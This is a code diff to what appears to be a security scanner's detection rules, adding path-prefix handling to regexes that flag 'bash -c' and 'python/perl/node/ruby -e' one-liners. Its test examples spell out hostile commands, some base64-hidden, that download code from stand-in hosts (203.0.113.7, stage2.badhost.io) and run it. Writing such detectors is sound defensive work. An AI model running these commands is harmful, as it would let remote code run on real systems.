@@ -32,6 +32,8 @@ const INTERPRETER_KEYWORDS = ['python', 'python2', 'python3', 'pypy', 'pypy3', '
 
 const SHELLS = String.raw`(?:ba|z|k|da|a|mk)?sh`;
 const BIN_DIR = String.raw`(?:\/usr)?(?:\/local)?(?:\/s?bin\/)?`;
+/** the longest BIN_DIR, `/usr/local/sbin/`: how far before the program name a match can start */
+const BIN_DIR_MAX = '/usr/local/sbin/'.length;
 // A payload ends at its closing quote, or at the end of its line when that quote is gone: in
 // the shell view of a JSON string, the payload's closing quote and the string's own closing
 // quote meet as an empty pair ("") that de-obfuscation removes.
@@ -91,6 +93,7 @@ export const SHELL_EXEC_FLAG_PATTERNS: PatternRecord[] = [
     description: 'sh/bash -c with a payload that decodes hidden text and runs it (bash -c "$(echo … | base64 -d)")',
     keywords: ['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash', 'mksh'],
     keywordsAtWordStart: true,
+    keywordLead: BIN_DIR_MAX,
     regex: new RegExp(
       String.raw`(?<![\w.-])${BIN_DIR}${SHELLS}(?:\s{1,4}-[a-zA-Z]{1,5}){0,3}\s{1,4}-[a-zA-Z]{0,4}c[a-zA-Z]{0,4}\s{1,4}(?<payload>${DQ}|${SQ}|\$\((?:[^\n)$]|\$(?!\()){1,600}\)?)`,
       'g',
@@ -99,6 +102,7 @@ export const SHELL_EXEC_FLAG_PATTERNS: PatternRecord[] = [
     examples: {
       tp: [
         'bash -c "$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d)"',
+        '/usr/local/sbin/bash -c "$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d)"',
         "sh -c 'eval \"$(echo ZWNobyBvd25lZCA+IC90bXAvcHdu | xxd -r -p)\"'",
         'bash -c "$(printf \'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\')"',
       ],
@@ -138,6 +142,7 @@ export const SHELL_EXEC_FLAG_PATTERNS: PatternRecord[] = [
     description: 'python -c / perl -e / ruby -e / node -e / php -r one-liner that runs commands, worse with a fetch or decoder',
     keywords: INTERPRETER_KEYWORDS,
     keywordsAtWordStart: true,
+    keywordLead: BIN_DIR_MAX,
     regex: new RegExp(
       String.raw`(?<![\w.\/-])${BIN_DIR}(?:(?<lang>python[23]?(?:\.\d{1,2})?|pypy3?|perl|ruby|nodejs|node|php|bun)(?:\.exe)?(?:\s{1,4}-{1,2}[\w:=.-]{1,30}){0,4}?\s{1,4}(?:-[a-zA-Z]{0,3}[ceEr]|--eval|--exec|-p|--print)|deno\s{1,4}eval)\s{1,4}(?<payload>${DQ}|${SQ})`,
       'g',
@@ -158,6 +163,7 @@ export const SHELL_EXEC_FLAG_PATTERNS: PatternRecord[] = [
       tp: [
         'python3 -c "import urllib.request,os;open(\'/tmp/a\',\'wb\').write(urllib.request.urlopen(\'http://203.0.113.7/a\').read());os.system(\'chmod +x /tmp/a; /tmp/a\')"',
         "python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\"",
+        "/usr/local/bin/python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\"",
         "perl -e 'use LWP::Simple; my $c = get(\"https://stage2.badhost.io/x.pl\"); eval $c; system($c)'",
         "node -e \"require('https').get('https://stage2.badhost.io/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>require('child_process').exec(d))})\"",
         "ruby -e 'require \"open-uri\"; system(URI.open(\"https://stage2.badhost.io/r\").read)'",
